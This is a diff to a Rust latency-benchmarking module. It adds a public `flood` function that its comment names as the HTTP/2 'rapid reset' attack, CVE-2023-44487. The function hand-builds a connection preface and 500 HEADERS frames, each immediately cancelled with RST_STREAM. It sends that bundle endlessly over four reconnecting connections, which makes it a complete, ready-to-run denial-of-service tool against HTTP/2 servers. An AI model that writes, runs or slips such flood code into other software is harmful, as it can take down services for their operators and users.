@@ -171,3 +171,35 @@ pub async fn run(
     latencies.sort_unstable();
     Ok(Measured { requests: latencies.len(), seconds, latencies })
 }
+
+/// Opens HTTP/2 requests and resets them at once («rapid reset», CVE-2023-44487), from several connections that are made anew
+/// as they are cut, until it is dropped.
+pub async fn flood(client: &Client, to: SocketAddr) {
+    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
+        let mut frame = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes()[1..].to_vec();
+        frame.extend([kind, flags]);
+        frame.extend(stream.to_be_bytes());
+        frame.extend(payload);
+        frame
+    };
+    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    bytes.extend(frame(4, 0, 0, &[]));
+    for number in 0..500 {
+        let stream = 2 * number + 1;
+        bytes.extend(frame(1, 0x5, stream, b"\x82\x86\x84\x41\x03web"));
+        bytes.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
+    }
+    let one = || async {
+        loop {
+            if let Ok(mut stream) = client.open(to).await {
+                drop(stream.write_all(&bytes).await);
+                drop(stream.flush().await);
+                let mut sink = [0; 4096];
+                let ends = async { while stream.read(&mut sink).await.is_ok_and(|length| length > 0) {} };
+                drop(timeout(Duration::from_millis(200), ends).await);
+            }
+            tokio::task::yield_now().await;
+        }
+    };
+    tokio::join!(one(), one(), one(), one());
+}
